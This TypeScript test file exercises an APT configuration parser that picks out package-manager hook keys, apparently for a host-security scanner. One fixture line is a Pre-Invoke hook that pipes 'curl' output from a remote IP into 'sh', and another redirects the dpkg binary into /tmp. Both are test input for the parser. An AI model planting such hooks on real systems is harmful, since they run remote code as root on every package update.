import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { test } from 'node:test';
import fc from 'fast-check';
import { isAptHookKey, parseAptConf } from '../../src/host/apt-conf.js';

test('nested scopes, :: keys, list items, comments of three kinds', () => {
  const text = [
    '// a comment',
    '# another',
    '/* block',
    '   comment */ APT::Update::Pre-Invoke { "curl -s http://203.0.113.9/a | sh"; };',
    'DPkg {',
    '  Post-Invoke { "/bin/one"; "/bin/two"; };',
    '  Pre-Install-Pkgs:: "/usr/sbin/dpkg-preconfigure --apt || true";',
    '};',
    'APT::Get::Assume-Yes true;',
    'Dir::Bin::dpkg "/tmp/.d/dpkg";',
    '#include "/etc/apt/extra.conf";',
    '#clear DPkg::Post-Invoke;',
  ].join('\n');
  const { assignments, unterminatedString } = parseAptConf(text);
  assert.equal(unterminatedString, null);
  assert.deepEqual(
    assignments.map((a) => [a.line, a.key, a.value]),
    [
      [4, 'APT::Update::Pre-Invoke', 'curl -s http://203.0.113.9/a | sh'],
      [6, 'DPkg::Post-Invoke', '/bin/one'],
      [6, 'DPkg::Post-Invoke', '/bin/two'],
      [7, 'DPkg::Pre-Install-Pkgs', '/usr/sbin/dpkg-preconfigure --apt || true'],
      [9, 'APT::Get::Assume-Yes', 'true'],
      [10, 'Dir::Bin::dpkg', '/tmp/.d/dpkg'],
      [11, '#include', '"/etc/apt/extra.conf"'],
      [12, '#clear', 'DPkg::Post-Invoke'],
    ],
  );
  assert.deepEqual(assignments.filter((a) => isAptHookKey(a.key)).map((a) => a.line), [4, 6, 6, 7, 10, 11]);
  assert.equal(isAptHookKey('dpkg::post-invoke'), true);
  assert.equal(isAptHookKey('APT::Update::Post-Invoke-Success'), true);
});

test('Debian\'s own 20packagekit-style file, when present on this machine', { skip: !existsSafe('/etc/apt/apt.conf.d/20packagekit') }, () => {
  const { assignments } = parseAptConf(readFileSync('/etc/apt/apt.conf.d/20packagekit', 'utf8'));
  assert.ok(assignments.some((a) => a.key === 'DPkg::Post-Invoke' && a.value.startsWith('/usr/bin/test')));
});

test('an unterminated string is reported with its line', () => {
  assert.equal(parseAptConf('A "x";\nB "y;\n').unterminatedString, 2);
});

test('property: any text parses without throwing', () => {
  fc.assert(
    fc.property(fc.oneof(fc.string({ maxLength: 300 }), fc.array(fc.constantFrom('{', '}', ';', '"x"', 'A::B', '//', '/*', '*/', '#include', '\n', ' '), { maxLength: 40 }).map((a) => a.join(''))), (t) => {
      const r = parseAptConf(t);
      for (const a of r.assignments) assert.ok(a.line >= 1);
    }),
    { numRuns: 500 },
  );
});

function existsSafe(p: string): boolean {
  try {
    readFileSync(p);
    return true;
  } catch {
    return false;
  }
}
